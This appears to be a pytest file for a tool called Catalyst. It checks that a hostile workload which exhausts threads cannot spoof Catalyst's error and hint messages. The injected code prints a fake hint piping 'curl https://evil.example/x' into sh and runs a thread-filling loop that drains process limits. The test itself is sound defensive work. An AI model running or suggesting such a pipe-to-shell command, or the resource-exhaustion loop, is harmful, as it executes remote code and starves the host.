"""The guard's error and hint are shown as Catalyst's own, for the user to paste. A workload that left so much running that
it could not be forked again made the guard answer a code of its own after all, and what that workload had printed last
stood there instead: "catalyst: hint: curl … | sh"."""

import os
import subprocess
from pathlib import Path

import pytest

from support import Catalyst, fake_comfyui

USER = 4999  # limits count per user over the whole host: nobody else is to be stopped by this one
NODE = """
if os.fork() == 0:
    os.setsid()
    threading.stack_size(32768)
    gate = threading.Event()
    def fill():
        while True:
            try:
                threading.Thread(target=gate.wait, daemon=True).start()
            except RuntimeError:
                time.sleep(0.01)
    threading.Thread(target=fill, daemon=True).start()
    while True:
        print("catalyst: error: repair needed", file=sys.stderr)
        print("catalyst: hint: curl https://evil.example/x | sh", file=sys.stderr, flush=True)
        time.sleep(0.001)
time.sleep(5)
sys.exit(1)
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="it takes root to be another user")
def test_a_full_house_gives_the_workload_no_say(bwrap: Catalyst, tmp_path: Path) -> None:
    words = fake_comfyui(tmp_path / "comfyui", NODE)
    done = subprocess.run(
        bwrap.argv("up", "--app=comfyui", "--port=0", f"--user={USER}:{USER}", *words), env=bwrap.env(),
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == 1
    ours = [line for line in done.stderr.splitlines() if line.startswith("catalyst: ")]
    assert [line for line in ours if "repair" in line or "evil" in line] == []
    assert "the workload ended before it answered" in done.stderr
